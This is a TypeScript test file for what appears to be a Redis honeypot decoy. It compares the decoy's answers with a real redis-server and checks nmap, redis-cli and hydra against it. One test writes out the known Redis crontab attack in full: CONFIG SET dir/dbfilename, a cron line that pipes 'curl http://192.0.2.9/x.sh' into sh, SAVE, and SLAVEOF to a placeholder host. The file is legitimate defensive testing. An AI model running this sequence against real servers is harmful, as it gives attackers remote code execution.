/**
 * The decoy beside the redis-server of Debian: the same probes to both, every difference listed; and the tools that users and attackers bring.
 * `REDIS_ANSWERS=write` records the real server's answers for the unit test.
 */
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { recordShare } from '@netsentinel/testkit/conformance-share';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDecoyContext, type RecordedContext } from '@netsentinel/testkit/decoy-harness';
import type { Decoy } from '@netsentinel/contracts/decoy';
import { countReplies, maskAnswer, probeBytes } from './redis-client.fixture.ts';
import type { RedisProbe } from './probes/redis-probe.fixture.ts';
import { PROBES } from './redis-probes.fixture.ts';
import { redisDecoy } from './redis.decoy.ts';

const REAL_PORT = 26_377;
const folder = mkdtempSync(join(tmpdir(), 'redis-real-'));
const servers: Server[] = [];
const decoys: Decoy[] = [];
let real: ChildProcess;

interface Outcome {
  readonly code: number;
  readonly out: string;
}

function run(program: string, args: readonly string[], input = ''): Promise<Outcome> {
  return new Promise((resolve) => {
    const child = execFile(program, args, { timeout: 90_000 }, (error, out, err) =>
      resolve({ code: typeof error?.code === 'number' ? error.code : error === null ? 0 : -1, out: out + err }),
    );
    child.stdin!.end(input);
  });
}

async function open(config: unknown): Promise<RecordedContext & { readonly port: number }> {
  const recorded = createDecoyContext({ id: 'redis-1' });
  const decoy = redisDecoy.create(recorded.ctx, redisDecoy.config.parse(config));
  decoys.push(decoy);
  const server = createServer({ noDelay: true }, (stream) =>
    decoy.accept({
      stream,
      source: { ip: '127.0.0.1', port: stream.remotePort ?? 0 },
      destination: { ip: '127.0.0.1', port: 6379 },
    }),
  );
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { ...recorded, port: (server.address() as AddressInfo).port };
}

/** What comes back until all is answered, the other side hung up, or nothing came for a while. */
async function play(port: number, probe: RedisProbe): Promise<string> {
  const socket = connect(port, '127.0.0.1');
  let text = '';
  let closed = false;
  socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
  socket.on('error', () => {});
  socket.on('close', () => (closed = true));
  socket.write(probeBytes(probe), 'latin1');
  const wanted = typeof probe.send === 'string' ? Infinity : probe.send.length + 1;
  const patience = wanted === Infinity ? 40 : 160;
  for (let turn = 0; turn < patience && !closed && countReplies(text) < wanted; turn++) await sleep(5);
  socket.destroy();
  return maskAnswer(probe, text + (closed ? '<closed>' : ''));
}

describe('the Redis decoy and the world', () => {
  beforeAll(async () => {
    const options = ['--port', String(REAL_PORT), '--dir', folder, '--logfile', join(folder, 'log')];
    options.push('--daemonize', 'no', '--supervised', 'no', '--pidfile', join(folder, 'pid'));
    options.push('--enable-protected-configs', 'yes', '--enable-module-command', 'yes');
    real = spawn('redis-server', ['/etc/redis/redis.conf', ...options], { stdio: 'ignore' });
    await sleep(1000);
  });

  afterAll(async () => {
    real.kill('SIGKILL');
    for (const decoy of decoys) await decoy.close();
    for (const server of servers) server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('answers at least 95 of 100 probes as redis-server does', async () => {
    const { port, failures } = await open({});
    const answers: string[] = [];
    const differences: string[] = [];
    for (const probe of PROBES) {
      const [theirs, ours] = [await play(REAL_PORT, probe), await play(port, probe)];
      answers.push(theirs);
      if (theirs !== ours)
        differences.push(
          `${JSON.stringify(probe.send).slice(0, 200)}\n  real ${JSON.stringify(theirs).slice(0, 400)}\n  ours ${JSON.stringify(ours).slice(0, 400)}`,
        );
    }
    if (process.env['REDIS_ANSWERS'] === 'write')
      writeFileSync(join(import.meta.dirname, 'redis-answers.json'), `${JSON.stringify(answers, null, 1)}\n`);
    console.log(
      `${PROBES.length - differences.length} of ${PROBES.length} probes answered alike\n${differences.join('\n')}`,
    );
    recordShare({
      decoy: 'redis',
      beside: 'redis-server',
      probes: PROBES.length,
      alike: PROBES.length - differences.length,
    });
    expect(PROBES.length).toBeGreaterThanOrEqual(100);
    expect(differences.length / PROBES.length).toBeLessThan(0.05);
    expect(failures).toEqual([]);
  });

  it('serves redis-cli: answers, INFO, a pipe, MONITOR’s line and a crontab by SAVE', async () => {
    const { port, events } = await open({});
    const cli = (...args: string[]) => run('redis-cli', ['-p', String(port), ...args]);
    expect((await cli('PING')).out).toBe('PONG\n');
    expect((await cli('-3', 'HELLO')).out).toContain('7.0.15');
    expect((await cli('INFO', 'server')).out).toContain('redis_version:7.0.15');
    expect((await cli('--scan')).out.split('\n').length).toBeGreaterThan(20);
    expect((await run('redis-cli', ['-p', String(port)], 'SET a 1\nGET a\nNOPE\n')).out).toContain('1\n');
    expect((await cli('CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs')).out).toBe('OK\n');
    expect((await cli('CONFIG', 'SET', 'dbfilename', 'root')).out).toBe('OK\n');
    expect((await cli('SET', 'x', '\n\n*/1 * * * * curl http://192.0.2.9/x.sh | sh\n\n')).out).toBe('OK\n');
    expect((await cli('SAVE')).out).toBe('OK\n');
    expect((await cli('SLAVEOF', '192.0.2.9', '6379')).out).toBe('OK\n');
    expect((await cli('ROLE')).out).toContain('connect');
    const written = events.find(({ event }) => event.action === 'redis-file');
    expect(written).toMatchObject({
      file: { path: '/var/spool/cron/crontabs/root' },
      threat: { technique: { id: ['T1053.003'] } },
    });
  });

  it('is named by nmap, with redis-info, as the real one is', async () => {
    const { port } = await open({});
    const scan = (target: number) =>
      run('nmap', ['-sV', '--version-all', '--script', 'redis-info', '-p', String(target), '-Pn', '127.0.0.1']);
    const [ours, theirs] = [await scan(port), await scan(REAL_PORT)];
    const named = (text: string) => /tcp\s+open\s+(.*)/.exec(text)?.[1]?.trim();
    expect(named(ours.out)).toMatch(/^redis +Redis key-value store 7\.0\.15/);
    expect(named(ours.out)).toBe(named(theirs.out));
    expect(ours.out).toContain('Version: 7.0.15');
  });

  it('lets hydra and medusa guess', async () => {
    const { port, events } = await open({
      password: 'Tr0ub4dor',
      credentials: { anyAfterTries: false, weakPairs: false },
    });
    const list = join(folder, 'passwords');
    writeFileSync(list, 'admin\nredis\nTr0ub4dor\n');
    const hydra = await run('hydra', ['-t', '1', '-P', list, '-s', String(port), '127.0.0.1', 'redis']);
    expect(hydra.out).toMatch(/\[redis\].*password: Tr0ub4dor/);
    const tried = events.filter(({ event }) => event.action === 'redis-login');
    expect(tried.map(({ event }) => event.outcome)).toContain('success');
    expect((await run('medusa', ['-d'])).out).not.toContain('redis.mod');
    expect((await run('redis-cli', ['-p', String(port), '-a', 'Tr0ub4dor', '--no-auth-warning', 'PING'])).out).toBe(
      'PONG\n',
    );
    expect((await run('redis-cli', ['-p', String(port), 'PING'])).out).toContain('NOAUTH Authentication required.');
  });
});
